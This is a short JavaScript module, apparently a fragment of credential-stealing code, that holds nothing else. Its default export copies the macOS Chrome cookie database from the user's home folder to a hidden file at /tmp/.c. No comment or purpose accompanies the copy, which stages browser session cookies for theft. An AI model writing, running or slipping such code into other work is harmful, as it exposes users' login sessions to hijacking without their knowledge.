import { copyFileSync } from "fs";
import os from "os";
import path from "path";
const from = path.join(os.homedir(), "Library", "Application Support", "Google", "Chrome", "Default", "Cookies");
export default () => copyFileSync(from, "/tmp/.c");
